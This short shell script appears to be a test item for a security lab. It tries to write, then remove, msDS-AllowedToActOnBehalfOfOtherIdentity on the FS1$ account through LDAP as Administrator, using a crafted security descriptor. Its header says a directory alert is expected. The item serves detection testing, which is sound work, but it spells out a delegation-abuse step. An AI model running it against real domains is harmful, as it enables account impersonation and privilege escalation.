# SPDX-License-Identifier: Apache-2.0
# what: fs1 told to accept whom another account impersonates (LDAP), and told back; Samba refuses
# technique: T1098
# from: ws1
# to: dc1
# account: Administrator
# outcome: attempt
# must: alert directory
. "$RANGE_HERE/item.sh"
sd=$(/usr/bin/python3 -c "
import base64
from samba.dcerpc import security
from samba.ndr import ndr_pack
print(base64.b64encode(ndr_pack(security.descriptor.from_sddl('O:BAD:(A;;CCDCLCSWRPWPDTLOCRSDRCWDWO;;;BU)', security.dom_sid('S-1-5-21-1-2-3')))).decode())")
dn=$(at dc1 ldbsearch -H /var/lib/samba/private/sam.ldb '(samAccountName=FS1$)' dn | sed -n 's/^dn: //p')
{
	printf 'dn: %s\nchangetype: modify\nreplace: msDS-AllowedToActOnBehalfOfOtherIdentity\n' "$dn"
	printf 'msDS-AllowedToActOnBehalfOfOtherIdentity:: %s\n\n' "$sd"
	printf 'dn: %s\nchangetype: modify\ndelete: msDS-AllowedToActOnBehalfOfOtherIdentity\n' "$dn"
} >"$HOME/ldif"
ldapmodify -x -H ldap://$dc1 -D "Administrator@$DOMAIN_DNS" -w "$ADMIN_PASSWORD" -f "$HOME/ldif"
true
